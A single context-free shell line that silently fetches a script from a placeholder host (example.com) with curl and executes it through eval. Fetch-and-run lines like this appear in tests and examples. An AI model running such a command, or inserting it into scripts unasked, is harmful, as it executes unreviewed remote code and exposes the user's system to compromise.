eval `curl -s http://example.com/env.sh`
